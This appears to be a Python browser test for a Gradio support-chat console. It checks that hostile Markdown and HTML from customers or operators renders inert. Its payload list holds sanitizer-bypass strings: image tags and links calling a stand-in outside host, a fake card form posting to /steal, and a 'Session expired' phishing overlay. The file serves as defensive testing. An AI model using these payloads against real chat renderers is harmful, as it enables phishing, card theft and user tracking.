"""Hostile Markdown and HTML in a chat, from each side, drawn by the real renderer: nothing
loads from another host, nothing becomes a link, a form, an image or a styled box, on the
customer's screen or the operator's (an outside tester got all of these past the
pattern-based escaping: console/ui/render.py says how it works now)."""

from __future__ import annotations

from typing import Any

import pytest

from console.service import create_app
from tests.fakes import ScriptedBackend
from tests.test_browser import chat_text, send, wait_for
from tests.test_day_one import CUSTOMER, OPERATOR, browser, open_listed, open_page  # noqa: F401  (fixture)

pytestmark = pytest.mark.browser

OUTSIDE = "http://outside.invalid"

#: the tester's payloads (each slipped past the escaping before), then HTML the sanitizer keeps
PAYLOADS = [
    f"nested ![a [b] c]({OUTSIDE}/nested.png)",
    f"single-quoted ![x]({OUTSIDE}/single.png 'hi')",
    f"parenthesised ![x]({OUTSIDE}/paren.png (t))",
    f"reference ![x][q]\n\n- [q]: {OUTSIDE}/ref-in-list.png",
    f'unclosed ``` then\n\n![x]({OUTSIDE}/fence.png) <img src="{OUTSIDE}/fence-tag.png">',
    f"span `x\n\n![x]({OUTSIDE}/across.png)\n\n`",
    f'shifted ` y\n` <img src="{OUTSIDE}/shift.png"> `',
    f'item\n  ```\n<svg><image href="{OUTSIDE}/svg.png"/></svg>',
    f'| `a | <video poster="{OUTSIDE}/poster.png"></video> ` |\n|---|---|',
    f'<form action="{OUTSIDE}/steal"><input name=card placeholder="Card number"><button>Pay</button></form>',
    f'<div style="position:fixed;inset:0">Session expired</div> [Verify card]({OUTSIDE}/verify)',
    # a second round against marked itself: Gradio's mermaid blocks, GFM's "~" and
    # strikethrough, emphasis closing inside a double-backtick span, addresses mid-word,
    # e-mails, and Gradio's cleandoc re-indenting a message after it was made inert
    f"```mermaid\n<img src={OUTSIDE}/mermaid.png><a href={OUTSIDE}/m>pay</a>\n```",
    f"```mermaid\nx```\n<img src={OUTSIDE}/mermaid-close.png>\n```",
    f"~`<img src={OUTSIDE}/tilde.png>`",
    f"~a`<a href={OUTSIDE}/del>pay here</a>~`",
    f"*a ``x* <img src={OUTSIDE}/em.png> y``",
    "xhttps://outside.invalid/login and 1www.outside.invalid",
    f"xhttps://outside.invalid/`<img src={OUTSIDE}/u.png>`",
    "write to evil@outside.invalid or <evil@outside.invalid>",
    f"```\n\t```\n\t<img src={OUTSIDE}/tab.png>",
    # a third round (an outside tester fuzzing ~190,000 inputs against marked): emphasis
    # closing inside a kept span by way of an escaped backtick or a link's shape, a fence on
    # the last line, indented fences and mermaid blocks in list items, a blank first line
    f"*a [b](`x) y* <img src={OUTSIDE}/b1.png>`",
    f"` | *a `b* <img src={OUTSIDE}/b2.png>`",
    f"_`\n`<img src={OUTSIDE}/b3.png>_`",
    f"a\n```<img src={OUTSIDE}/a.png>",
    f"- a\n  - b\n\n  c\n  ```<img src={OUTSIDE}/a2.png>\n\nz",
    f"- a\n\n  ```mermaid\n  <img src={OUTSIDE}/m1.png>\n  ```\n\nz",
    f"\n  ```mermaid\n  <img src={OUTSIDE}/m2.png>\n  ```\nz",
    "a\n\n ```\nb\n```\nwww.outside.invalid/login",
    f"a\n\n ```\nb\n```\n\\` *a `b* <img src={OUTSIDE}/c.png>`",
]
#: what the person sends: markup, and a reply indented so that Gradio's cleandoc would turn
#: a line that is no fence into one
AGENT = (
    f"   ```\n    ```\n   <img src={OUTSIDE}/indent.png>\n   <a href={OUTSIDE}/x>Verify your card</a>\n   ```"
)

#: elements a message bubble must never hold
_LIVE = """() => [...document.querySelectorAll('#chatbot .prose')]
  .flatMap((m) => [...m.querySelectorAll(
    'img, a[href], form, input, button, svg, video, iframe, [style*="position"], [style*="url("]')])
  .filter((e) => !e.closest('.copy_code_button'))  // gradio's own button on a code block
  .map((e) => e.outerHTML.slice(0, 120))"""


def test_hostile_markup_from_either_side_stays_text(
    browser: Any,  # noqa: F811
    make_config: Any,
    launched: Any,
) -> None:
    config = make_config(auth=(CUSTOMER, OPERATOR), operators=(OPERATOR[0],))
    # the model repeats what it was sent: a reply carrying the same markup
    app = launched(create_app(config, backend=ScriptedBackend(reply=lambda m: f"You wrote: {m}")))
    outside: list[str] = []
    customer = open_page(browser, app.local_url, CUSTOMER)
    customer.context.on("request", lambda r: outside.append(r.url) if "outside.invalid" in r.url else None)
    # (a message may hand the conversation to a person, whereupon the model stays silent:
    # each is waited for as sent, not as answered)
    sent = customer.locator("#chatbot [data-testid=user]")
    for n, payload in enumerate(PAYLOADS, start=1):
        send(customer, payload)
        wait_for(lambda: sent.count() >= n, timeout=60, what="the message")  # noqa: B023
    wait_for(lambda: app.pipeline.active_streams == 0, timeout=60, what="the replies")
    # a person answers with the same markup (their reply is drawn by the same code)
    send(customer, "I want to talk to a person")
    operator = open_page(browser, app.local_url, OPERATOR)
    operator.context.on("request", lambda r: outside.append(r.url) if "outside.invalid" in r.url else None)
    viewer = open_listed(operator, "#escalation-queue", "nested")
    # Take acts on the conversation open in the view: clicked before it opened (a loaded
    # machine), it had none to take
    wait_for(lambda: "talk to a person" in viewer.inner_text(), what="the conversation opened")
    operator.locator("#take").click()
    wait_for(lambda: "maria" in operator.locator("#owner-info textarea").input_value(), what="taken")
    operator.locator("#agent-text textarea").fill(AGENT)
    operator.locator("#agent-send").click()
    wait_for(lambda: "Verify your card" in chat_text(customer), what="the person's first reply")
    operator.locator("#agent-text textarea").fill(PAYLOADS[10] + "\n\n" + PAYLOADS[4] + "\n\n" + PAYLOADS[-5])
    operator.locator("#agent-send").click()
    wait_for(lambda: "Session expired" in chat_text(customer), what="the person's reply")
    customer.wait_for_timeout(1000)  # anything that would load has asked by now

    live = customer.evaluate(_LIVE)
    assert live == [], "\n".join(live)
    assert outside == []
    shown = chat_text(customer)
    # ... and the words are all there, as text
    for words in ("Card number", "Session expired", "Verify card", "<form", "<img src=", "evil@"):
        assert words.replace("http://", "http://\u2060") in shown or words in shown, words
    # a screen reader reads each message as written: not the escapes that keep it inert
    names = customer.eval_on_selector_all(
        "#chatbot [data-testid=user]", "(els) => els.map((e) => e.getAttribute('aria-label'))"
    )
    assert any("nested ![a [b] c](http" in name for name in names), names
    assert not [name for name in names if "&#" in name or "&lt;" in name], names
    for page in (customer, operator):
        page.context.close()
